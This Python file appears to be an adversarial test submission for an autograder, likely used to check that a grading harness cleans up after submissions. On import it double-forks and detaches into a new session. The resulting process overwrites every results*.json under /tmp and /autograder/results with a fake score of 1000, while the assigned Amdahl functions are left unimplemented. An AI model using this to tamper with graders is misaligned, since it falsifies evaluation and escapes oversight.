"""A detached writer: a double-forked, setsid'd process that outlives the child.

Targets ch01 ex01_amdahl and implements nothing: its honest score is 0. At
import it double-forks; the grandchild starts a new session, then replaces
itself by a sleeping process whose command line carries a marker (read from
the attack_marker.py next to this file), and would, a moment later, rewrite
every results.json it can reach. The grader must leave no such process
behind.
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attack_marker import MARKER  # noqa: E402

WRITER = """
import json, pathlib, time
time.sleep(3)
for folder in ("/tmp", "/autograder/results"):
    for target in pathlib.Path(folder).rglob("results*.json"):
        try:
            target.write_text(json.dumps({"score": 1000.0, "tests": []}))
        except OSError:
            pass
time.sleep(600)
"""

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", WRITER, MARKER])
    os._exit(0)
os.wait()


def amdahl_speedup(parallel_fraction, workers):
    raise NotImplementedError


def amdahl_limit(parallel_fraction):
    raise NotImplementedError
